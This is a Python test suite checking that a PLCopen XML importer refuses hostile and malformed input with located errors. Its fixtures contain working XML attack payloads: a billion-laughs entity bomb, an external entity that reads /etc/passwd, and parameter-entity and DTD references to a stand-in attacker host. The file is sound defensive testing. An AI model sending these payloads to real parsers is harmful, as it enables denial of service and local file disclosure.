"""Hostile and broken PLCopen input (issue 8, Tests: hostile XML): refused with a located error, never a crash.

Entity expansion (billion laughs), external entities and external DTDs are refused
before anything is expanded or fetched; oversize documents are refused unread;
malformed XML and non-PLCopen documents get located diagnostics; random
corruptions of a valid document never raise.
"""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ladderlab.interchange.plcopen import xml_safety
from ladderlab.interchange.plcopen.exporter import export_plcopen
from ladderlab.interchange.plcopen.importer import import_plcopen
from ladderlab.interchange.plcopen.xml_safety import MAX_XML_BYTES, XmlInputError, parse_untrusted_xml
from ladderlab.storage import load_project_path
from tests.interchange.plcopen_helpers import strip_ladderlab
from tests.support import EXAMPLES

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE project [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<project xmlns="http://www.plcopen.org/xml/tc6_0201"><types><pous/></types>&lol3;</project>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<project xmlns="http://www.plcopen.org/xml/tc6_0201"><contentHeader name="&secret;"/></project>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE project [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<project xmlns="http://www.plcopen.org/xml/tc6_0201"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE project SYSTEM "http://attacker.invalid/plcopen.dtd">
<project xmlns="http://www.plcopen.org/xml/tc6_0201"/>
"""


def _refused(data: bytes) -> tuple[str, str, int | None]:
    result = import_plcopen(data, file="plc.xml")
    assert result.project is None
    (diagnostic,) = result.diagnostics
    assert diagnostic.severity == "error" and diagnostic.file == "plc.xml"
    return diagnostic.code, diagnostic.message, diagnostic.line


def test_billion_laughs_is_refused_at_the_first_entity_declaration():
    code, message, line = _refused(BILLION_LAUGHS)
    assert (code, line) == ("XML-ENTITY", 3)
    assert message == (
        "the document declares the entity 'lol'; entity declarations are refused (they allow "
        "entity-expansion and external-entity attacks)"
    )


@pytest.mark.parametrize("document, name", [(EXTERNAL_ENTITY, "secret"), (PARAMETER_ENTITY, "remote")])
def test_external_entities_are_refused_before_anything_is_read(document, name):
    code, message, line = _refused(document)
    assert (code, line) == ("XML-ENTITY", 2)
    assert message.startswith(f"the document declares the entity '{name}'")


def test_an_external_dtd_is_refused_not_fetched():
    code, message, line = _refused(EXTERNAL_DTD)
    assert (code, line) == ("XML-EXTERNAL", 2)
    assert message == (
        "the document type declaration names the external DTD "
        "'http://attacker.invalid/plcopen.dtd'; external DTDs are never fetched"
    )


def test_a_plain_doctype_without_entities_is_harmless():
    data = b'<!DOCTYPE project><project xmlns="http://www.plcopen.org/xml/tc6_0201"/>'
    result = import_plcopen(data)
    assert result.project is not None and result.project.pous == []


def test_oversize_documents_are_refused_before_parsing(monkeypatch):
    def parser_must_not_run(*args, **kwargs):
        raise AssertionError("the parser was started on an oversize document")

    monkeypatch.setattr(xml_safety, "DefusedXMLParser", parser_must_not_run)
    code, message, line = _refused(b"<" * (MAX_XML_BYTES + 1))
    assert code == "XML-TOO-LARGE" and line is None
    assert message == (
        f"the document is {MAX_XML_BYTES + 1:,} bytes; documents over {MAX_XML_BYTES:,} bytes are refused unread"
    )


def test_the_limit_is_a_parameter_of_the_safe_parser():
    with pytest.raises(XmlInputError) as caught:
        parse_untrusted_xml(b"<a/>" * 10, max_bytes=39)
    assert caught.value.diagnostic.code == "XML-TOO-LARGE"
    assert parse_untrusted_xml(b"<a><b/></a>", max_bytes=11).root.tag == "a"


def test_malformed_xml_is_located():
    assert _refused(b'<project xmlns="http://www.plcopen.org/xml/tc6_0201">\n  <types>\n</project>') == (
        "XML-SYNTAX",
        "not well-formed XML: mismatched tag",
        3,
    )


def test_parsed_elements_know_their_source_line():
    parsed = parse_untrusted_xml(b"<a>\n  <b/>\n\n  <c><d/></c>\n</a>")
    assert [(e.tag, parsed.line(e)) for e in parsed.root.iter()] == [("a", 1), ("b", 2), ("c", 4), ("d", 4)]


@pytest.mark.parametrize(
    "data, found",
    [
        (b"<html><body/></html>", "the root element is <html> in namespace 'none'"),
        (b'<project xmlns="urn:other"/>', "the root element is <project> in namespace 'urn:other'"),
    ],
)
def test_documents_that_are_not_plcopen_are_refused(data, found):
    code, message, line = _refused(data)
    assert code == "PLCOPEN-NOT-PLCOPEN" and line == 1
    assert message.startswith(found)


@pytest.fixture(scope="module", params=["with LadderLab addData", "as another tool leaves it"])
def motor_xml(request) -> bytes:
    data = export_plcopen(load_project_path(EXAMPLES / "motor"))
    return data if request.param.startswith("with") else strip_ladderlab(data)


@given(cut=st.integers(0, 10**6), junk=st.binary(max_size=8), where=st.integers(0, 10**6))
def test_corrupted_documents_never_raise(motor_xml, cut, junk, where):
    """Truncate the motor export and splice junk into it: the import reports, it does not crash."""
    data = motor_xml[: cut % (len(motor_xml) + 1)]
    at = where % (len(data) + 1)
    result = import_plcopen(data[:at] + junk + data[at:])
    assert result.project is not None or any(d.severity == "error" for d in result.diagnostics)


@given(drop=st.sets(st.integers(0, 400), max_size=6), blank=st.sets(st.integers(0, 400), max_size=6))
def test_documents_with_missing_elements_or_attributes_never_raise(motor_xml, drop, blank):
    """Well-formed but damaged PLCopen (elements removed, attribute values emptied): diagnostics, no exception."""
    root = ET.fromstring(motor_xml)
    elements = list(root.iter())
    for index in sorted(blank):
        element = elements[index % len(elements)]
        for name in element.attrib:
            element.set(name, "")
    parents = {child: parent for parent in root.iter() for child in parent}
    for index in sorted(drop, reverse=True):
        element = elements[index % len(elements)]
        if element in parents and element in list(parents[element]):
            parents[element].remove(element)
    result = import_plcopen(ET.tostring(root))
    assert result.project is not None


# ----------------------------------------------------------------- issue 18: the PLCopen import 500s


@pytest.mark.parametrize("value", ["NaN", "inf", "-Infinity", "1e999", "twelve"])
def test_a_position_that_is_no_finite_number_is_a_warning_and_zero(value: str) -> None:
    """Issue 18: a NaN position gave 500 (the model refuses it after the import had accepted it)."""
    data = export_plcopen(load_project_path(EXAMPLES / "motor")).decode()
    scaling = data.index('<pou name="Scaling"')
    at = data.index('<position x="', scaling) + len('<position x="')
    end = data.index('"', at)
    result = import_plcopen((data[:at] + value + data[end:]).encode(), file="plc.xml")
    assert result.project is not None
    [warning] = result.diagnostics
    assert (warning.severity, warning.code, warning.pou, warning.file) == (
        "warning",
        "PLCOPEN-GRAPH",
        "Scaling",
        "plc.xml",
    )
    assert warning.message == f"position x={value!r} is not a finite number; 0 is used"
    assert warning.line == data[:at].count("\n") + 1
    xs = [node.pos.x for net in result.project.pou("Scaling").body.networks for node in net.nodes if node.pos]
    assert 0.0 in xs and all(abs(x) < 1e6 for x in xs)


@pytest.mark.parametrize(
    ("encoding", "reason"),
    [("UTF-7", "multi-byte encodings are not supported"), ("klingon", "unknown encoding: klingon")],
)
def test_an_encoding_the_parser_cannot_read_is_a_located_refusal(encoding: str, reason: str) -> None:
    """Issue 18: UTF-7 (and unknown encodings) gave 500 in the server and a traceback on the CLI."""
    body = export_plcopen(load_project_path(EXAMPLES / "motor")).split(b"?>", 1)[1]
    code, message, line = _refused(f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + body)
    assert (code, line) == ("XML-ENCODING", 1)
    assert message == f"the document's encoding cannot be read ({reason}); save it as UTF-8"


def test_deeply_nested_markup_is_refused_while_it_is_read() -> None:
    """Issue 18: 100,000 nested xhtml paragraphs in a <documentation> gave a RecursionError (500)."""
    data = export_plcopen(load_project_path(EXAMPLES / "motor")).decode()
    at = data.index("<documentation>") + len("<documentation>")
    nested = "<xhtml:p>" * 100_000 + "</xhtml:p>" * 100_000
    code, message, line = _refused((data[:at] + nested + data[at:]).encode())
    assert code == "XML-TOO-DEEP"
    assert message == (
        "the document nests deeper than the limit of 200 levels for the nesting of one XML document "
        "(the setting LADDERLAB_MAX_XML_DEPTH raises it)"
    )
    assert line == data[:at].count("\n") + 1
